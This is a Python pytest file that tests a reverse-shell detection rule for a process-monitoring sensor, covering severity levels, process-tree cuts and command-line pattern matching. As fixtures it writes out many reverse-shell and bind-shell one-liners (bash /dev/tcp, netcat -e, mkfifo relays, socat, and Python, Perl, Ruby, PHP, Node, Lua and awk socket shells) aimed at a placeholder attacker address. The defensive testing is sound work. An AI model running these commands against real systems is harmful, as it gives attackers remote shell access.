# SPDX-License-Identifier: Apache-2.0
"""nsp.reverse-shell: behaviour first, words second."""

from __future__ import annotations

import pytest

from stream_apps.detect.shell_patterns import reverse_shell_pattern
from tests.support.batches import Node, workload
from tests.support.stream import cut, pipeline, rules, run, subject

EVIL = "203.0.113.9"
INET = ["INET", "INET", "INET"]
ON_SOCKET = {"stdio": INET, "stdio_peer": f"{EVIL}:4444"}
CRITICAL = [("nsp.reverse-shell", "CRITICAL")]
HIGH = [("nsp.reverse-shell", "HIGH")]
MEDIUM = [("nsp.reverse-shell", "MEDIUM")]


def fifo(relay: str) -> list[str]:
    """A shell's command line that joins a shell's pipes to the network."""
    return ["sh", "-c", f"mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | {relay} >/tmp/f"]


def cron_job(node: Node) -> int:
    """A process that no service is above."""
    return node.spawn(node.service("/usr/sbin/cron", serving=False), "/opt/backup")


@pytest.mark.parametrize(
    ("program", "argv", "found"),
    [
        ("/usr/bin/bash", ["bash", "-i"], CRITICAL),
        ("/bin/busybox", ["sh"], CRITICAL),
        ("/usr/bin/python3.11", ["python3", "-i"], HIGH),
        ("/usr/bin/cat", ["cat"], []),
    ],
)
def test_a_shell_or_interpreter_on_a_socket_is_caught_whatever_started_it(
    program: str, argv: list[str], found: list[tuple[str, str]]
) -> None:
    node = Node()
    job = cron_job(node)
    shell = node.spawn(job, program, argv, **ON_SOCKET)
    outcome = run(node)
    assert rules(outcome) == found
    assert cut(outcome) == ([subject(node, shell)] if found else [])


def test_stdout_alone_is_enough() -> None:
    node = Node()
    node.spawn(cron_job(node), "/usr/bin/bash", stdio=["FILE", "INET", "FILE"], stdio_peer=f"{EVIL}:1")
    assert rules(run(node)) == CRITICAL


def test_the_peer_is_the_destination() -> None:
    node = Node()
    node.spawn(cron_job(node), "/usr/bin/bash", stdio=INET, stdio_peer="[2001:db8::9]:4444")
    (alert,) = run(node).alerts
    assert (alert["remote_address"], alert["remote_port"]) == ("2001:db8::9", 4444)
    assert "has the connection to [2001:db8::9]:4444 as stdin or stdout" in alert["description"]


@pytest.mark.parametrize("launcher", ["/usr/sbin/inetd", "/usr/sbin/xinetd", "/usr/lib/systemd/systemd"])
def test_what_inetd_and_its_kind_start_has_the_client_on_stdin_by_design(launcher: str) -> None:
    node = Node()
    node.spawn(node.service(launcher), "/usr/bin/dash", ["sh", "/usr/lib/finger"], **ON_SOCKET)
    assert run(node).alerts == []


def test_a_listening_socket_on_stdin_is_how_fastcgi_works() -> None:
    node = Node()
    node.spawn(node.service("/usr/sbin/lighttpd"), "/usr/bin/php-cgi", stdio=["INET", "FILE", "FILE"])
    assert run(node).alerts == []
    node.spawn(node.service("/usr/sbin/lighttpd"), "/usr/bin/dash", stdio=["INET", "FILE", "FILE"])
    assert rules(run(node)) == MEDIUM


def test_below_a_service_the_tree_below_the_service_is_cut() -> None:
    node = Node()
    web = node.service("/usr/bin/python3.11", ["python3", "shop.py"])
    outer = node.spawn(web, "/usr/bin/dash", ["sh", "-c", "report"])
    shell = node.spawn(outer, "/usr/bin/bash", ["bash", "-i"], **ON_SOCKET)
    outcome = run(node)
    assert rules(outcome) == CRITICAL
    assert cut(outcome) == [subject(node, outer)]
    assert outcome.alerts[0]["lineage"][0]["tgid"] == node.images[shell]["tgid"]


def test_the_topmost_process_that_gives_itself_away_is_cut_not_the_login_above_it() -> None:
    node = Node()
    login = node.spawn(node.service("/usr/sbin/sshd"), "/usr/bin/bash", ["-bash"], stdio=["TERMINAL"] * 3)
    outer = node.spawn(login, "/usr/bin/bash", ["bash", "-c", f"bash -i >& /dev/tcp/{EVIL}/4444 0>&1"])
    node.spawn(outer, "/usr/bin/bash", ["bash", "-i"], **ON_SOCKET)
    outcome = run(node)
    assert rules(outcome) == CRITICAL
    assert cut(outcome) == [subject(node, outer)]


def test_what_runs_in_the_shell_tells_it_even_when_its_exec_was_in_an_earlier_batch() -> None:
    node = Node()
    shell = node.spawn(cron_job(node), "/usr/bin/bash", ["bash", "-i"], **ON_SOCKET)
    node.batch()
    node.spawn(shell, "/usr/bin/id")
    outcome = run(node)
    assert rules(outcome) == CRITICAL
    assert cut(outcome) == [subject(node, shell)]


@pytest.mark.parametrize(
    ("program", "argv"),
    [
        ("/usr/bin/nc.traditional", ["nc", "-e", "/bin/sh", EVIL, "4444"]),
        ("/usr/bin/socat", ["socat", f"tcp-connect:{EVIL}:4444", "exec:/bin/sh,pty"]),
        (
            "/usr/bin/python3.11",
            ["python3", "-c", "import socket,pty;s=socket.socket();s.connect(a);pty.spawn('sh')"],
        ),
    ],
)
def test_words_with_the_deed_are_high_and_words_that_end_without_it_medium(
    program: str, argv: list[str]
) -> None:
    node = Node()
    tool, failed = (node.spawn(cron_job(node), program, argv) for _ in range(2))
    through = pipeline()
    assert rules(run(node, through)) == []
    node.connect(tool, EVIL, 4444)
    deed = run(node, through)
    assert rules(deed) == HIGH
    assert cut(deed) == [subject(node, tool)]
    for each in (tool, failed):
        node.add("ProcessExit", each, exit_status=1, signal=0)
    ended = run(node, through)
    assert (rules(ended), ended.enforcements) == (MEDIUM, [])
    assert ended.alerts[0]["lineage"][0]["tgid"] == node.images[failed]["tgid"]


def test_a_bind_shell_listens_instead_of_connecting() -> None:
    node = Node()
    netcat = node.spawn(cron_job(node), "/usr/bin/ncat", ["ncat", "-l", "4444", "--exec", "/bin/bash"])
    node.listen(netcat, 4444)
    assert rules(run(node)) == HIGH


def test_words_and_deed_and_shell_are_one_alert_however_they_come() -> None:
    node, through = Node(), pipeline()
    bash = node.spawn(
        cron_job(node), "/usr/bin/bash", ["bash", "-c", f"bash -i >& /dev/tcp/{EVIL}/4444 0>&1"]
    )
    child = node.fork(bash)
    node.connect(child, EVIL, 4444)
    (alert,) = run(node, through).alerts
    assert alert["severity"] == "HIGH"
    node.exec(child, "/usr/bin/bash", ["bash", "-i"], **ON_SOCKET)
    assert run(node, through).alerts == []


def test_the_heaviest_evidence_describes_the_alert() -> None:
    node = Node()
    bash = node.spawn(cron_job(node), "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/evil/4444 0>&1"])
    child = node.fork(bash)
    connected = node.connect(child, EVIL, 4444)
    node.exec(child, "/usr/bin/bash", ["bash", "-i"], **ON_SOCKET)
    (alert,) = run(node).alerts
    assert (alert["severity"], alert["evidence"][0]["position"]) == ("CRITICAL", connected)
    assert f"has the connection to {EVIL}:4444 as stdin or stdout" in alert["description"]


def test_a_rule_that_acts_only_on_critical_is_told_when_it_becomes_that() -> None:
    node, through = Node(), pipeline(respond={"nsp.reverse-shell": {"min_severity": "CRITICAL"}})
    bash = node.spawn(cron_job(node), "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/evil/4444 0>&1"])
    child = node.fork(bash)
    node.connect(child, EVIL, 4444)
    assert cut(run(node, through)) == []
    node.exec(child, "/usr/bin/bash", ["bash", "-i"], **ON_SOCKET)
    assert cut(run(node, through)) == [subject(node, bash)]


def test_a_command_that_only_mentions_a_reverse_shell_is_none_when_its_child_connects() -> None:
    node = Node()
    shell = node.spawn(cron_job(node), "/usr/bin/dash", ["sh", "-c", "grep 'nc -e /bin/sh' log; curl u"])
    node.connect(node.spawn(shell, "/usr/bin/curl", ["curl", "u"]), EVIL, 443)
    node.add("ProcessExit", shell, exit_status=0, signal=0)
    assert run(node).alerts == []


def test_asking_for_a_name_is_not_the_deed() -> None:
    node = Node()
    tool = node.spawn(cron_job(node), "/usr/bin/nc.traditional", ["nc", "-e", "/bin/sh", "evil", "4444"])
    node.connect(tool, "10.96.0.10", 53, protocol=17)
    node.ask(tool, "evil.example")
    assert run(node).alerts == []
    node.connect(tool, EVIL, 53)
    assert rules(run(node)) == HIGH


def test_a_relay_between_a_shells_pipes_and_the_network_is_caught_by_its_pipes() -> None:
    node = Node()
    outer = node.spawn(cron_job(node), "/usr/bin/dash", ["sh", "/tmp/x"])
    pipes = {"stdio": ["PIPE", "PIPE", "PIPE"]}
    node.spawn(outer, "/usr/bin/dash", ["sh"], **pipes)
    relay = node.spawn(outer, "/usr/bin/nc.openbsd", ["nc", EVIL, "4444"], stdio=["PIPE", "PIPE", "FILE"])
    node.connect(relay, EVIL, 4444)
    outcome = run(node)
    assert rules(outcome) == HIGH
    assert cut(outcome) == [subject(node, relay)]


@pytest.mark.parametrize("tool", [["nc", EVIL, "4444"], ["busybox", "telnet", EVIL, "4444"]])
def test_a_relay_that_such_a_command_line_started_is_caught_without_the_shell_beside_it(
    tool: list[str],
) -> None:
    node = Node()
    outer = node.spawn(cron_job(node), "/usr/bin/dash", fifo(" ".join(tool)))
    node.batch()  # the shell's exec was in another batch, and it is no ancestor of the relay
    program = "/usr/bin/busybox" if tool[0] == "busybox" else "/usr/bin/nc.openbsd"
    relay = node.spawn(outer, program, tool, stdio=["PIPE", "PIPE", "FILE"])
    node.connect(relay, EVIL, 4444)
    assert rules(run(node)) == HIGH


def test_an_interactive_shell_on_a_pipe_is_told_below_such_a_command_line_too() -> None:
    node = Node()
    outer = node.spawn(cron_job(node), "/usr/bin/dash", fifo("nc 203.0.113.9 4444"))
    node.batch()
    node.spawn(outer, "/usr/bin/dash", ["sh", "-i"], stdio=["PIPE", "PIPE", "PIPE"])
    assert rules(run(node)) == MEDIUM


def test_sending_a_commands_output_by_netcat_is_no_reverse_shell() -> None:
    node = Node()
    outer = node.spawn(cron_job(node), "/usr/bin/dash", ["sh", "/opt/report"])
    node.spawn(outer, "/usr/bin/df", stdio=["FILE", "PIPE", "FILE"])
    node.connect(
        node.spawn(outer, "/usr/bin/nc.openbsd", ["nc", "graphite", "2003"], stdio=["PIPE", "FILE", "FILE"]),
        "10.2.0.9",
        2003,
    )
    assert run(node).alerts == []


@pytest.mark.parametrize(
    ("argv", "found"),
    [(["sh", "-i"], MEDIUM), (["bash", "-li"], MEDIUM), (["bash", "-ic", "make"], []), (["sh"], [])],
)
def test_an_interactive_shell_on_a_pipe_is_odd(argv: list[str], found: list[tuple[str, str]]) -> None:
    node = Node()
    node.spawn(cron_job(node), "/usr/bin/bash", argv, stdio=["PIPE", "PIPE", "PIPE"])
    assert rules(run(node)) == found


def test_a_socket_handed_on_by_a_shell_is_odd() -> None:
    node = Node()
    shell = node.spawn(cron_job(node), "/usr/bin/bash", ["bash", "/tmp/x"])
    node.spawn(shell, "/usr/bin/cat", ["cat"], stdio=["INET", "PIPE", "FILE"], stdio_peer=f"{EVIL}:4444")
    assert rules(run(node)) == MEDIUM


def test_a_shell_that_was_there_before_the_sensor_is_caught_too() -> None:
    node = Node()
    shell = node.spawn(cron_job(node), "/usr/bin/bash", ["bash", "-i"], origin="INVENTORY", **ON_SOCKET)
    node.events = []
    node.add("ProcessInventory", shell)
    assert rules(run(node)) == CRITICAL


def test_exclusions_apply_to_the_launcher_only() -> None:
    node = Node(workloads=[workload("host/worker-1/", "HOST"), workload("svc")])
    inetd = node.service("/usr/sbin/inetd")
    handler = node.spawn(inetd, "/usr/bin/dash", ["sh", "finger"], **ON_SOCKET)
    node.spawn(handler, "/usr/bin/bash", ["bash", "-i"], stdio=INET, stdio_peer=f"{EVIL}:9")
    # The handler's own exec is excluded; a further shell was not started by inetd.
    assert [each["lineage"][0]["argv"] for each in run(node).alerts] == [["bash", "-i"]]


@pytest.mark.parametrize(
    ("argv", "pattern"),
    [
        (["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"], "bash-dev-tcp"),
        (["sh", "-c", "0<&196;exec 196<>/dev/tcp/h/1; sh <&196 >&196 2>&196"], "bash-dev-tcp"),
        (["bash", "-c", "exec 5<>/dev/tcp/h/1; while read l <&5; do $l >&5; done"], "dev-tcp-loop"),
        (["zsh", "-c", "sh -i >& /dev/udp/h/1 0>&1"], "bash-dev-tcp"),
        (["nc", "-e", "/bin/sh", "h", "1"], "netcat-exec"),
        (["nc.traditional", "h", "1", "-e", "/bin/bash"], "netcat-exec"),
        (["nc", "-lvpe", "/bin/sh"], "netcat-exec"),
        (["ncat", "h", "1", "--sh-exec", "bash -i"], "netcat-exec"),
        (["sh", "-c", "busybox nc h 1 -e sh"], "netcat-exec"),
        (["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc h 1 >/tmp/f"], "fifo-relay"),
        (["sh", "-c", "mknod /tmp/p p && telnet h 1 0</tmp/p | /bin/bash 1>/tmp/p"], "fifo-relay"),
        (["sh", "-c", "mkfifo s; /bin/sh -i <s 2>&1|openssl s_client -quiet -connect h:1 >s"], "fifo-relay"),
        (["sh", "-c", "telnet h 1 | /bin/sh | telnet h 2"], "piped-relay"),
        (["socat", "TCP:h:1", "EXEC:'bash -li',pty,stderr"], "socat-exec"),
        (["socat", "openssl-connect:h:1,verify=0", "system:sh"], "socat-exec"),
        (
            ["python3", "-c", "import socket,os;s=socket.socket();s.connect(('h',1));os.dup2(3,0)"],
            "python-socket",
        ),
        (
            ["perl", "-e", 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);open(STDIN,">&S");exec("sh");'],
            "perl-socket",
        ),
        (
            ["ruby", "-rsocket", "-e", "c=TCPSocket.new('h',1);exec sprintf('sh <&%d',c.fileno)"],
            "ruby-socket",
        ),
        (["php", "-r", '$s=fsockopen("h",1);exec("/bin/sh -i <&3 >&3 2>&3");'], "php-socket"),
        (
            ["node", "-e", "c=require('net').connect(1,'h');require('child_process').spawn('sh')"],
            "node-socket",
        ),
        (
            ["lua", "-e", "s=require('socket').tcp();s:connect('h',1);os.execute('/bin/sh -i <&3')"],
            "lua-socket",
        ),
        (["awk", 'BEGIN{s="/inet/tcp/0/h/1";while(1){s|&getline c;}}'], "awk-inet"),
        (["bash", "-c", "cat < /dev/null > /dev/tcp/db/5432"], None),
        (["bash", "-c", "(echo > /dev/tcp/db/5432) >/dev/null 2>&1"], None),
        (["nc", "-z", "db", "5432"], None),
        (["nc", "-c", "tls.example", "443"], None),
        (["sh", "-c", "echo stats | nc -w1 graphite 2003"], None),
        (["socat", "TCP-LISTEN:80,fork", "TCP:backend:80"], None),
        (["python3", "-m", "http.server"], None),
        (["python3", "-c", "import socket; print(socket.gethostname())"], None),
        (["node", "server.js"], None),
        (["sh", "-c", "rsync -a /a /b; sync"], None),
        ([], None),
    ],
)
def test_command_lines(argv: list[str], pattern: str | None) -> None:
    assert reverse_shell_pattern(argv) == pattern
